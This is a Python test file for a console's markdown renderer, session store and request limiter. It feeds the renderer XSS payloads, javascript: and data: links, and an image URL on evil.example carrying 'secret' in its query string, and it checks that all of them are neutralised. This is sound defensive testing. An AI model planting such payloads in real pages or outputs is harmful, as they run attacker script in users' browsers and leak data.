"""Markup in texts of models stays text."""

import pytest

from gateway_console.components.markdown import render_markdown
from gateway_console.sessions import RequestLimiter, SessionStore


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<style>*{display:none}</style>",
        "<form action=https://evil.example><input></form>",
        "a <b onmouseover=alert(1)>b</b>",
        "```html\n<script>alert(1)</script>\n```",
        "`<script>`",
        "| <script> |\n|---|\n| <img src=x> |",
        '```"><script>alert(1)</script>\nx\n```',
    ],
)
def test_html_is_escaped(text: str) -> None:
    html = render_markdown(text)
    assert all(tag not in html for tag in ("<script", "<img", "<style", "<form", "<b "))


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](/sign-out)",
        "[x](JaVaScRiPt:alert(1))",
        "<javascript:alert(1)>",
        "[x]\n\n[x]: javascript:alert(1)",
    ],
)
def test_link_that_is_no_web_address_leads_nowhere(text: str) -> None:
    assert "href" not in render_markdown(text)


@pytest.mark.parametrize("text", ["![x](https://evil.example/?q=secret)", "![x][y]\n\n[y]: https://evil.example"])
def test_image_of_another_host_is_not_loaded(text: str) -> None:
    assert "<img" not in render_markdown(text)


def test_code_is_highlighted_and_table_drawn() -> None:
    html = render_markdown("```python\nprint(1)\n```\n\n| a |\n|---|\n| b |")
    assert '<span class="nb">print</span>' in html
    assert "<table>" in html


def test_sessions_end_and_are_bounded() -> None:
    now = 0.0
    store = SessionStore(10.0, 2, lambda: now)
    first, first_session = store.create("a", "user")
    second, _ = store.create("b", "user")
    third, _ = store.create("c", "admin")
    assert store.find(first) is None
    assert not store.is_open(first_session)
    assert store.find(second) is not None
    store.close(second)
    assert store.find(second) is None
    now = 10.0
    assert store.find(third) is None
    store.create("d", "viewer")
    assert len(store) == 1


def test_credential_is_not_in_the_text_of_a_session() -> None:
    assert "secret" not in repr(SessionStore(1.0, 1).create("secret", "user")[1])


def test_limiter_counts_each_source_and_is_bounded() -> None:
    now = 0.0
    limiter = RequestLimiter(2, max_sources=2, now=lambda: now)
    assert [limiter.allow("a") for _ in range(3)] == [True, True, False]
    assert limiter.allow("b")
    assert [limiter.allow(f"other-{number}") for number in range(3)] == [True, True, False]
    now = 60.0
    assert limiter.allow("a")
